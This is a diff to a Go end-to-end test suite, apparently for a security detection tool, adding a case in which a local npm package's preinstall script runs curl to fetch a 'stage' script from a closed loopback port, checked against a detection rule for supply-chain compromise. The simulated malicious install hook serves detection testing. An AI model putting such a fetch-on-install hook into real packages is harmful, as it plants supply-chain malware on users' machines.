@@ -71,6 +71,21 @@ func init() {
 			expect: []expected{{"VGL-EXEC-018", "T1059"}},
 		},
 		behaviour{
+			// A real npm install, offline, of a package on disk whose
+			// preinstall script fetches a stage from a closed loopback port.
+			name: "npm install of a local package whose preinstall script runs curl",
+			perform: func(t *testing.T, a *arena) string {
+				npm, err := exec.LookPath("npm")
+				require.NoError(t, err, "npm: test/setup/logql.sh installs it")
+				pkg, root := tmpDir(t), tmpDir(t)
+				require.NoError(t, os.WriteFile(filepath.Join(pkg, "package.json"), []byte(`{"name":"vigil-e2e-evil","version":"1.0.0",`+
+					`"scripts":{"preinstall":"curl -s -m 2 http://127.0.0.1:9/vigil-e2e-stage.sh -o /dev/null || true"}}`), 0o644))
+				a.shell(t, fmt.Sprintf("cd %s && %s install --no-audit --no-fund --offline --install-links %s >/dev/null", root, npm, pkg))
+				return `process.command_line:~"vigil-e2e-stage.sh" process.executable.name:="dash"`
+			},
+			expect: []expected{{"VGL-EXEC-019", "T1195.002"}},
+		},
+		behaviour{
 			name: "download from the loopback web server into /tmp and run it",
 			perform: func(t *testing.T, a *arena) string {
 				file := filepath.Join(tmpDir(t), "dropped-payload")
